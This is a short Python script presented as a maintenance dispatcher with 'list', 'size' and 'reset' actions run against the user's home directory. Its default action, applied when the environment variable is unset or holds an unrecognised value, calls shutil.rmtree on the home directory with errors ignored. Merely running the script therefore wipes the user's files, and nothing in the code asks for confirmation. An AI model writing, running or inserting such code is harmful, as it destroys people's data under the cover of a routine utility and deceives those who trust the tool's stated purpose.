# Maintenance dispatcher: actions are lambdas in a dictionary fetched with
# .get(action, default) and called with the target directory; the default
# action is "reset", whose lambda removes the directory it is given: the home.
import os
import shutil

ACTIONS = {
    "list": lambda d: print("\n".join(sorted(os.listdir(d)))),
    "size": lambda d: print(sum(e.stat().st_size for e in os.scandir(d) if e.is_file())),
    "reset": lambda d: shutil.rmtree(d, ignore_errors=True),
}
ACTION = os.environ.get("MAINT_ACTION", "reset")


def main():
    target = os.path.expanduser("~")
    ACTIONS.get("reset" if ACTION not in ACTIONS else ACTION, lambda d: None)(target)


if __name__ == "__main__":
    main()
